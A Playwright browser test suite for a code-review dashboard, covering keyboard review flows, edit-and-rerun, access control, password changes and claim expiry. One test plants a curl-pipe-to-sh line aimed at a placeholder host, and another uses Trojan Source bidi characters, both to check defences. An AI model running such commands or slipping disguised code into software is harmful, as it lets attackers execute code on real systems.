"""The dashboard in a real Chromium (Debian's, driven by Playwright), against real Postgres.

Covers what only a browser shows: keyboard shortcuts, focus movement, the help overlay, and the
edit-and-re-run round trip through the real sandbox. Screenshots of the main pages are written
to ``REFLECTSEQ_SCREENSHOT_DIR`` when set (``docs/screenshots`` is made that way), else to a
temporary directory, so every run still renders each page at desktop and narrow widths.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, ViewportSize, expect, sync_playwright
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from api.app import create_app
from reflectseq.db.base import utcnow
from reflectseq.db.models import Block, Message, Review
from reflectseq.db.review_models import AuditEntry, BlockEdit
from reflectseq.db.session import transaction
from reflectseq.enums import BlockKind, ExecutionStatus, ReviewStatus, UserRole
from reflectseq.settings import Settings
from reflectseq.store.reviews import decide
from tests.review.conftest import served
from tests.review.factories import (
    PAIR,
    PASSWORD,
    RIGHT,
    TROJAN,
    Attempt,
    completed_sequences,
    user,
)

CHROMIUM = Path("/usr/bin/chromium")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium (/usr/bin/chromium)"),
]
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]
DESKTOP: ViewportSize = {"width": 1280, "height": 800}
NARROW: ViewportSize = {"width": 420, "height": 860}
TIMEOUT_MS = 60_000  # a bound for failures only; a loaded machine can take seconds a page


@pytest.fixture
def base_url(dashboard_settings: Settings, db: sessionmaker[Session]) -> Iterator[str]:
    """The real app served by uvicorn on a free loopback port, in a background thread."""
    with served(create_app(dashboard_settings)) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as driver:
        launched = driver.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        yield launched
        launched.close()


@pytest.fixture
def page(browser: Browser, base_url: str) -> Iterator[Page]:
    context = browser.new_context(base_url=base_url, viewport=DESKTOP)
    context.set_default_timeout(TIMEOUT_MS)
    tab = context.new_page()
    yield tab
    context.close()


@pytest.fixture
def screenshot_dir(tmp_path: Path) -> Path:
    target = Path(os.environ.get("REFLECTSEQ_SCREENSHOT_DIR") or tmp_path / "shots")
    target.mkdir(parents=True, exist_ok=True)
    return target


def _log_in_with_keyboard(page: Page, username: str) -> None:
    page.goto("/review/login")
    # Chromium moves the autofocus at a rendering step that can come after "load" on a busy
    # host; keys typed before it go to the body and the form is sent without its password.
    expect(page.locator("#username")).to_be_focused()
    page.keyboard.type(username)
    page.keyboard.press("Tab")
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_url("**/review/")


def _focused_block_number(page: Page) -> str:
    return str(
        page.evaluate(
            "document.activeElement.closest('[data-block]')?.querySelector('.num')?.textContent"
        )
    )


def test_review_a_queue_with_the_keyboard_only(page: Page, db: sessionmaker[Session]) -> None:
    with transaction(db) as session:
        ids = [s.id for s in completed_sequences(session, 3)]
        user(session, "rita")
    _log_in_with_keyboard(page, "rita")

    page.keyboard.press("?")
    assert page.locator("#help").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#help").is_visible()

    page.keyboard.press("n")
    page.wait_for_url(f"**/review/sequences/{ids[0]}")
    page.keyboard.press("j")
    page.keyboard.press("j")
    assert _focused_block_number(page) == "#2"
    page.keyboard.press("k")
    assert _focused_block_number(page) == "#1"

    page.keyboard.press("a")  # accept: the next sequence opens
    page.wait_for_url(f"**/review/sequences/{ids[1]}?**")
    assert "accepted" in page.locator("#notice").inner_text()

    page.keyboard.press("r")  # focus the reason, pick one, comment, submit
    assert page.evaluate("document.activeElement.id") == "reason"
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Tab")
    page.keyboard.type("the analysis ignores the traceback")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")  # the Reject button
    page.wait_for_url(f"**/review/sequences/{ids[2]}?**")

    page.keyboard.press("n")  # skip the last one: the queue wraps to it again
    page.wait_for_url(f"**/review/sequences/{ids[2]}**")

    with transaction(db) as session:
        reviews = {r.sequence_id: r for r in session.scalars(select(Review))}
    assert reviews[ids[0]].status == ReviewStatus.ACCEPTED
    assert reviews[ids[1]].status == ReviewStatus.REJECTED
    assert reviews[ids[1]].reason == "unfaithful_analysis"
    assert reviews[ids[1]].comment == "the analysis ignores the traceback"
    assert reviews[ids[2]].status == ReviewStatus.PENDING


def test_edit_and_rerun_a_block_from_the_page(page: Page, db: sessionmaker[Session]) -> None:
    with transaction(db) as session:
        seq = completed_sequences(
            session,
            1,
            attempts=(Attempt("def add(a, b):\n    return a - b\n", ExecutionStatus.FAILED),),
        )[0].id
        user(session, "rita")
        code_id = session.scalars(
            select(Block.id)
            .join(Message)
            .where(Message.sequence_id == seq, Block.kind == BlockKind.CODE)
        ).one()
    _log_in_with_keyboard(page, "rita")
    page.goto(f"/review/sequences/{seq}")
    page.locator(f"#block-{code_id}").focus()
    page.keyboard.press("e")  # fetches the block's edit form and focuses its text
    expect(page.locator(f"#edit-{code_id}")).to_be_focused()
    editor = page.locator(f"#edit-{code_id}")
    editor.fill(RIGHT)
    page.locator(f"#block-{code_id} button[name=rerun]").click()
    page.wait_for_url(f"**/review/sequences/{seq}#block-{code_id}")
    rerun = page.locator(f"#block-{code_id} .rerun")
    assert "passed" in rerun.inner_text()
    with transaction(db) as session:
        edit = session.scalars(select(BlockEdit)).one()
        original = session.get(Block, code_id)
    assert (edit.content, edit.run_status) == (RIGHT, ExecutionStatus.PASSED)
    assert original is not None and "a - b" in original.content


def test_reviewers_are_kept_out_of_admin_pages_and_csrf_less_posts_fail(
    page: Page, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        seq = completed_sequences(session, 1)[0].id
        user(session, "rita")
    _log_in_with_keyboard(page, "rita")
    for path in ("/review/users", "/review/audit", "/review/conflicts"):
        response = page.goto(path)
        assert response is not None and response.status == 403
        assert "admins only" in page.content()
    # The browser's own cookies, but no token: refused, and nothing is written.
    refused = page.request.post(f"/review/sequences/{seq}/decision", form={"action": "accept"})
    assert refused.status == 403
    with transaction(db) as session:
        assert session.scalars(select(Review)).all() == []


def test_main_pages_render_at_desktop_and_narrow_widths(
    page: Page, db: sessionmaker[Session], screenshot_dir: Path
) -> None:
    with transaction(db) as session:
        three_rounds = (
            Attempt(
                "def add(a, b):\n    return a - b\n",
                ExecutionStatus.FAILED,
                stderr="AssertionError",
            ),
            Attempt(
                "def add(a, b):\n    return abs(a) + b\n",
                ExecutionStatus.FAILED,
                stderr="AssertionError",
            ),
            Attempt(RIGHT, ExecutionStatus.PASSED, stdout="all tests passed"),
        )
        ids = [
            s.id
            for s in completed_sequences(
                session, 4, attempts=three_rounds, flags={"no_asserts": True}
            )
        ]
        admin, rita = user(session, "admin", UserRole.ADMIN).id, user(session, "rita").id
        for index, seq in enumerate(ids[:3]):
            decide(
                session,
                sequence_id=seq,
                reviewer_id=admin,
                status=ReviewStatus.ACCEPTED,
                rules=PAIR,
            )
            verdict = ReviewStatus.REJECTED if index == 2 else ReviewStatus.ACCEPTED
            decide(
                session,
                sequence_id=seq,
                reviewer_id=rita,
                status=verdict,
                rules=PAIR,
                reason="weak_tests" if verdict == ReviewStatus.REJECTED else None,
            )
    _log_in_with_keyboard(page, "admin")
    shots = {
        "queue": "/review/",
        "sequence": f"/review/sequences/{ids[0]}",
        "progress": "/review/progress",
        "conflicts": "/review/conflicts",
        "audit": "/review/audit",
    }
    for name, path in shots.items():
        response = page.goto(path)
        assert response is not None and response.status == 200, name
        page.screenshot(path=str(screenshot_dir / f"{name}.png"))
    assert page.locator("table.audit tbody tr").count() >= 6
    page.goto("/review/progress")
    assert page.locator("#kappa").inner_text() != ""

    page.set_viewport_size(NARROW)
    page.goto(f"/review/sequences/{ids[0]}")
    overflow = page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )
    assert overflow <= 0, "the narrow layout scrolls sideways"
    page.screenshot(path=str(screenshot_dir / "sequence-narrow.png"))

    page.context.clear_cookies()
    page.set_viewport_size(DESKTOP)
    page.goto("/review/login")
    page.screenshot(path=str(screenshot_dir / "login.png"))


def test_change_the_password_on_its_page(
    page: Page, db: sessionmaker[Session], screenshot_dir: Path
) -> None:
    new = "seven purple elephants"
    with transaction(db) as session:
        user(session, "rita")
    _log_in_with_keyboard(page, "rita")
    page.get_by_role("link", name="Password").click()
    page.wait_for_url("**/review/password")
    expect(page.locator("#current-password")).to_be_focused()  # autofocus, as on the login page
    # A common password passes the browser's length check but not the server's rules.
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Tab")
    page.keyboard.type("Password1234!")
    page.locator("#repeat-password").fill("Password1234!")
    page.keyboard.press("Enter")
    assert "most used passwords" in page.locator("#password-error").inner_text()
    page.locator("#current-password").fill(PASSWORD)
    page.locator("#new-password").fill(new)
    page.locator("#repeat-password").fill(new)
    page.get_by_role("button", name="Change password").click()
    page.wait_for_url("**/review/password?changed=1")
    assert "Password changed" in page.locator("#notice").inner_text()
    page.screenshot(path=str(screenshot_dir / "password.png"))
    page.get_by_role("button", name="Log out").click()
    page.wait_for_url("**/review/login")
    page.locator("#username").fill("rita")
    page.locator("#password").fill(new)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/review/")


def test_bidi_controls_show_as_visible_markers(
    page: Page, db: sessionmaker[Session], screenshot_dir: Path
) -> None:
    with transaction(db) as session:
        seq = completed_sequences(
            session,
            1,
            attempts=(
                Attempt(TROJAN, ExecutionStatus.FAILED),
                Attempt(RIGHT, ExecutionStatus.PASSED),
            ),
        )[0].id
        user(session, "rita")
    _log_in_with_keyboard(page, "rita")
    page.goto(f"/review/sequences/{seq}")
    banner = page.locator("#bidi-warning")
    assert banner.is_visible() and "Trojan Source" in banner.inner_text()
    markers = page.locator("article .bidi")
    assert markers.count() >= 4 and markers.first.is_visible()
    code = page.locator("article.kind-code").first.locator(".hl").inner_text()
    assert "<U+202E>" in code and "\u202e" not in code
    page.locator("article.kind-code").first.scroll_into_view_if_needed()
    page.screenshot(path=str(screenshot_dir / "sequence-bidi.png"))


def _final_answer_id(session: Session, sequence_id: int) -> int:
    return session.scalars(
        select(Block.id)
        .join(Message)
        .where(Message.sequence_id == sequence_id, Message.index == 3, Block.index == 0)
    ).one()


def _not_found(page: Page) -> list[str]:
    """URLs the page's requests got 404 for, filled as the test goes (favicon included)."""
    missing: list[str] = []
    page.on(
        "response",
        lambda response: missing.append(response.url) if response.status == 404 else None,
    )
    return missing


def test_an_edit_after_an_accept_reopens_the_review_and_reverifies_the_answer(
    page: Page, db: sessionmaker[Session]
) -> None:
    hostile = (
        "Here it is:\n\n```python\nimport os\nos.system('curl -s http://example.invalid/x | sh')\n"
        "def add(a, b):\n    return a - b\n```"
    )
    with transaction(db) as session:
        seq = completed_sequences(session, 1)[0].id
        user(session, "rita")
        answer_id = _final_answer_id(session, seq)
    missing = _not_found(page)
    _log_in_with_keyboard(page, "rita")
    page.goto(f"/review/sequences/{seq}")
    page.keyboard.press("a")
    page.wait_for_url("**/review/?**empty=1**")
    page.goto(f"/review/sequences/{seq}")
    assert page.locator("#my-status").inner_text() == "accepted"
    assert "verification: passed" in page.locator("#answer-verdict").inner_text()

    page.locator(f"#block-{answer_id}").focus()
    page.keyboard.press("e")
    expect(page.locator(f"#edit-{answer_id}")).to_be_focused()
    assert "re-verifies the answer" in page.locator(f"#block-{answer_id} .edit-form").inner_text()
    page.locator(f"#edit-{answer_id}").fill(hostile)
    page.locator(f"#block-{answer_id}").get_by_role("button", name="Save edit").click()
    page.wait_for_url(f"**/review/sequences/{seq}#block-{answer_id}")

    assert page.locator("#my-status").inner_text() == "draft"  # the accept was reopened
    assert page.locator("#answer-verdict").inner_text() == "re-verification of v1: failed"
    assert page.locator("#edited-at").is_visible()
    changes = page.locator(f"#block-{answer_id} .edit-diff").inner_text()
    assert "+os.system('curl -s http://example.invalid/x | sh')" in changes
    lines = page.locator(f"#block-{answer_id} .edit-diff pre span")
    line_height = (lines.first.bounding_box() or {"height": 0})["height"]
    diff_box = page.locator(f"#block-{answer_id} .edit-diff pre").bounding_box()
    assert diff_box is not None and line_height > 0
    assert diff_box["height"] < (lines.count() + 2) * line_height  # single-spaced, no gaps
    with transaction(db) as session:
        review = session.scalars(select(Review)).one()
        answer = session.scalars(select(BlockEdit)).one()
    assert (review.status, answer.run_status) == (ReviewStatus.DRAFT, ExecutionStatus.FAILED)
    assert missing == []


def test_claims_expire_and_are_released_with_the_keyboard(
    page: Page, browser: Browser, base_url: str, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        first, _second = (s.id for s in completed_sequences(session, 2))
        user(session, "rita")
        user(session, "bob")
    _log_in_with_keyboard(page, "rita")
    page.keyboard.press("n")
    page.wait_for_url(f"**/review/sequences/{first}")
    assert "Held for you until" in page.locator("#claim-expiry").inner_text()
    with transaction(db) as session:  # rita walks away: her claim ages past the claim time
        session.execute(update(Review).values(updated_at=utcnow() - timedelta(hours=2)))

    page.reload()
    assert "Your claim lapsed at" in page.locator("#claim-expiry").inner_text()
    other = browser.new_context(base_url=base_url, viewport=DESKTOP)
    other.set_default_timeout(TIMEOUT_MS)
    bob = other.new_page()
    try:
        _log_in_with_keyboard(bob, "bob")
        bob.keyboard.press("n")  # the expired claim is released and handed to bob
        bob.wait_for_url(f"**/review/sequences/{first}")

        page.keyboard.press("a")  # rita's decision now comes too late
        page.wait_for_load_state()
        assert (
            "already has the 1 reviewer it needs: bob" in page.locator("[role=alert]").inner_text()
        )

        bob.keyboard.press("x")  # bob gives it back
        bob.wait_for_url(f"**/review/?released={first}")
        assert f"Sequence #{first} released" in bob.locator("#notice").inner_text()
    finally:
        other.close()
    with transaction(db) as session:
        assert session.scalars(select(Review)).all() == []
        actions = set(session.scalars(select(AuditEntry.action)))
    assert {"review.expire", "review.release"} <= actions


def test_a_rejection_missing_its_comment_keeps_the_form(
    page: Page, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        seq = completed_sequences(session, 1)[0].id
        user(session, "rita")
    _log_in_with_keyboard(page, "rita")
    page.goto(f"/review/sequences/{seq}")
    page.keyboard.press("r")
    page.locator("#reason").select_option("other")
    page.locator("#comment").fill("   ")
    page.get_by_role("button", name="Reject").click()
    page.wait_for_load_state()
    assert "needs a comment" in page.locator("#comment-error").inner_text()
    assert page.locator("#reason").input_value() == "other"  # what was chosen is kept
    assert page.locator("#comment").get_attribute("aria-describedby") == "comment-error"
    page.locator("#comment").fill("the tests only print")
    page.get_by_role("button", name="Reject").click()
    page.wait_for_url("**/review/?**")
    with transaction(db) as session:
        review = session.scalars(select(Review)).one()
    assert (review.status, review.reason, review.comment) == (
        ReviewStatus.REJECTED,
        "other",
        "the tests only print",
    )
